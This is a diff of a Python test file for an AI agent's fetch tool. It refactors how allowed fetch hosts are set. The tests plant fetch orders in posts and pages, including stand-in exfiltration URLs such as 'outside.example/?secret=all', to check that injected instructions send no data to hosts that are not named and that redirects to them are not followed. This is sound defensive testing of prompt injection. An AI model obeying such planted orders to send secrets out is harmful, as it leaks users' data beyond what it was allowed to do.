@@ -7,15 +7,12 @@ import pytest
 
 from answering import Asked as Host
 from answering import answering, moved, page
-from approving import AGENT, Post, abandoned, approved, asked, rejected
+from approving import AGENT, Post, abandoned, approved, asked, guarded, rejected
 from folkmoot.agents.definition import AgentDefinition, Workflow
 from folkmoot.kit.ids import ChunkId, CollectionId, DocumentId, new_id
 from folkmoot.kit.outbound.client import Outbound
 from folkmoot.kit.outbound.rules import Rules
-from folkmoot.kit.scope import Scope
 from folkmoot.kit.subject import Subject
-from folkmoot.settings.groups import Group, Guardrails
-from folkmoot.settings.schemas import LayerWrite
 from folkmoot.testing.provider import FakeProvider
 from folkmoot.tools.fetch import fetch_tool
 from folkmoot.tools.sources import Passage
@@ -103,13 +100,6 @@ def passage() -> Passage:
     )
 
 
-async def reading(ada: Talker, *hosts: str) -> None:
-    """Let the pages of hosts be read."""
-    data = LayerWrite[Guardrails](values=Guardrails(fetch_hosts=list(hosts)))
-    at = (Scope.ORGANIZATION, None)
-    await ada.platform.settings.replace(ada.subject, Group.GUARDRAILS, at, data, lambda _: None)
-
-
 async def test_what_a_tool_reads_sends_nothing(
     ada: Talker, provider: FakeProvider, post: Post
 ) -> None:
@@ -148,7 +138,7 @@ async def test_what_was_searched_before_the_answer_sends_nothing_in_the_next_tur
 async def test_a_page_that_may_be_read_sends_nothing(
     ada: Talker, provider: FakeProvider, post: Post, inside: Host
 ) -> None:
-    await reading(ada, "127.0.0.1")
+    await guarded(ada, fetch_hosts=["127.0.0.1"])
     obeys(provider)
     turn = await asked(ada, f"Read it. {order('fetch', url=inside.url)}")
     assert len(inside.heads) == 1
@@ -159,7 +149,7 @@ async def test_a_page_that_may_be_read_sends_nothing(
 async def test_no_byte_leaves_for_hosts_that_are_not_named(
     ada: Talker, provider: FakeProvider, post: Post, inside: Host, outside: Host
 ) -> None:
-    await reading(ada, "inside.example")
+    await guarded(ada, fetch_hosts=["inside.example"])
     out = f"http://outside.example:{outside.port}/?secret=all"
     post.received = order("fetch", url=out) + " " + order("fetch", url=outside.url)
     obeys(provider)
@@ -172,7 +162,7 @@ async def test_no_byte_leaves_for_hosts_that_are_not_named(
 async def test_a_redirect_to_a_host_that_is_not_named_is_not_followed(
     ada: Talker, provider: FakeProvider, outside: Host, outbound: Outbound, inside: Host
 ) -> None:
-    await reading(ada, "127.0.0.1")
+    await guarded(ada, fetch_hosts=["127.0.0.1"])
     away = f"http://outside.example:{outside.port}/?secret=all"
     async with answering(moved(away)) as leading:
         outbound.rules = Rules.of([leading.host, outside.host, inside.host])
@@ -185,7 +175,7 @@ async def test_a_redirect_to_a_host_that_is_not_named_is_not_followed(
 async def test_where_every_host_may_be_read_somebody_is_asked_first(
     ada: Talker, provider: FakeProvider, post: Post, outside: Host
 ) -> None:
-    await reading(ada, "*")
+    await guarded(ada, fetch_hosts=["*"])
     post.received = order("fetch", url=f"{outside.url}?secret=all")
     obeys(provider)
     turn = await asked(ada, f"Read my post. {order('read')}")
